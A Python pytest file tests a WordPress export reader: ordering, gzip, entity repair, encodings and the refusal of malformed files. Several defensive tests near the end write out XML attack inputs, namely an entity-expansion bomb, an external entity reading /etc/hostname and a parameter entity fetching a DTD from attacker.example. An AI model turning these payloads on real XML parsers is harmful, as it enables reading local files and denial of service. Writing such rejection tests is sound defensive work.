"""The reader: what it repairs, what it refuses, what it says."""

import gzip

import pytest

from newsroom.wordpress.reader import Export, Unreadable
from newsroom.wordpress.records import flatten

from .wordpress import export


def read(path):
    return list(flatten(iter(Export(path))))


def test_records_of_every_type_come_in_the_order_of_the_file(tmp_path):
    path = export.write(
        tmp_path,
        export.author("Ada", "Ada Byron"),
        export.category("world", "World"),
        export.tag("rain", "Rain"),
        export.item(1, comments=export.comment(7) + export.comment(8)),
        export.item(2, kind="page"),
    )
    assert [(r.kind, r.key) for r in read(path)] == [
        ("author", "ada"),
        ("category", "world"),
        ("tag", "rain"),
        ("post", "1"),
        ("comment", "7"),
        ("comment", "8"),
        ("page", "2"),
    ]


def test_source_is_the_site_without_scheme_and_www(tmp_path):
    file = Export(export.write(tmp_path))
    list(file)
    assert file.source == "old.example"


def test_gzipped_file_is_read(tmp_path):
    plain = export.write(tmp_path, export.item(1))
    packed = tmp_path / "export.xml.gz"
    packed.write_bytes(gzip.compress(plain.read_bytes()))
    assert read(packed) == read(plain)


def test_cut_off_gzip_is_a_clear_error(tmp_path):
    plain = export.write(tmp_path, *(export.item(n) for n in range(50)))
    packed = tmp_path / "export.xml.gz"
    packed.write_bytes(gzip.compress(plain.read_bytes())[:-200])
    with pytest.raises(Unreadable, match=r"export\.xml\.gz"):
        read(packed)


def test_control_characters_and_nul_bytes_are_dropped(tmp_path):
    path = export.write(tmp_path, export.item(1, title="A\x00B\x08C\x0b", body="x\x1fy"))
    (post,) = read(path)
    assert (post.title, post.body) == ("ABC", "xy")


@pytest.mark.parametrize(
    ("written", "read_as"),
    [
        ("a&nbsp;b", "a\xa0b"),
        ("caf&eacute; &hellip;", "café …"),
        ("&nonsense; stays", "&nonsense; stays"),
        ("a &amp; b &lt; c", "a & b < c"),
        ("&#0;&#x1F;&#55357;&#99999999;x", "x"),
        ("&#8211;", "–"),
    ],
)
def test_entities_that_xml_does_not_know_are_repaired(tmp_path, written, read_as):
    path = export.write(tmp_path, export.author("ada", written))
    assert read(path)[0].name == read_as


def test_cdata_keeps_its_ampersands(tmp_path):
    body = "a &nbsp; b & c &nonsense; &#0; ]] > <p>x</p>"
    (post,) = read(export.write(tmp_path, export.item(1, body=body)))
    assert post.body == body


@pytest.mark.parametrize("shift", range(0, 90, 3))
def test_repairs_do_not_depend_on_where_the_pieces_are_cut(tmp_path, shift):
    filler = "<!-- " + "." * (65_536 - 700 + shift * 10) + " -->"
    parts = [filler, export.author("ada", "A&nbsp;&eacute;"), export.item(1, body="]]&nbsp;]]")]
    path = export.write(tmp_path, *parts)
    author, post = read(path)
    assert (author.name, post.body) == ("A\xa0é", "]]&nbsp;]]")


def test_bytes_that_are_no_utf8_do_not_stop_the_reader(tmp_path):
    path = export.write(tmp_path, export.item(1, title="Caf#"))
    path.write_bytes(path.read_bytes().replace(b"Caf#", b"Caf\xe9"))
    assert read(path)[0].title == "Caf\ufffd"


def test_declared_encoding_is_obeyed(tmp_path):
    path = export.write(tmp_path, export.item(1, title="Café"))
    text = path.read_text(encoding="utf-8").replace('encoding="UTF-8"', 'encoding="ISO-8859-1"')
    path.write_bytes(text.encode("latin-1"))
    assert read(path)[0].title == "Café"


def test_broken_xml_names_file_line_and_place(tmp_path):
    path = export.write(tmp_path, "<item><title>Fish & chips</title></item>\n")
    with pytest.raises(Unreadable) as caught:
        read(path)
    assert "export.xml, line 7" in str(caught.value)
    assert "Fish & chips" in str(caught.value)
    assert "&amp;" in str(caught.value)


def test_truncated_file_is_refused(tmp_path):
    path = export.write(tmp_path, export.item(1))
    path.write_bytes(path.read_bytes()[:-60])
    with pytest.raises(Unreadable, match="line"):
        read(path)


@pytest.mark.parametrize("content", ["", "hello", "<html><body>x</body></html>", "\x00\x01\x02"])
def test_what_is_no_export_is_refused(tmp_path, content):
    path = tmp_path / "nothing.xml"
    path.write_text(content)
    with pytest.raises(Unreadable, match=r"nothing\.xml"):
        read(path)


def test_missing_file_is_refused(tmp_path):
    with pytest.raises(Unreadable, match=r"missing\.xml"):
        read(tmp_path / "missing.xml")


def test_entity_bomb_is_refused(tmp_path):
    bomb = '<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
    )
    path = export.write(tmp_path, export.author("ada", "&j;"), prologue=f"{bomb}]>\n")
    with pytest.raises(Unreadable, match="entities"):
        read(path)


@pytest.mark.parametrize(
    "declaration",
    [
        '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/hostname">]>\n',
        '<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://attacker.example/x.dtd"> %x;]>\n',
    ],
)
def test_external_entity_is_refused(tmp_path, declaration):
    path = export.write(tmp_path, export.author("ada", "&x;"), prologue=declaration)
    with pytest.raises(Unreadable, match="entities"):
        read(path)


def test_very_deep_elements_are_refused(tmp_path):
    path = export.write(tmp_path, "<a>" * 5000 + "</a>" * 5000)
    with pytest.raises(Unreadable, match="deep"):
        read(path)


def test_same_record_twice_is_a_repeat_and_a_namesake_is_not(tmp_path):
    path = export.write(
        tmp_path,
        export.item(1, slug="one"),
        export.item(1, slug="one"),
        export.item(1, slug="other"),
        export.item(1, slug="other"),
        export.item(1, slug="one", kind="page"),
    )
    assert [(r.kind, r.key, r.is_repeat) for r in read(path)] == [
        ("post", "1", False),
        ("post", "1", True),
        ("post", "1:other", False),
        ("post", "1:other", True),
        ("page", "1", False),
    ]


def test_post_type_named_like_another_element_is_kept_apart(tmp_path):
    (record,) = read(export.write(tmp_path, export.item(1, kind="author")))
    assert record.kind == "type:author"
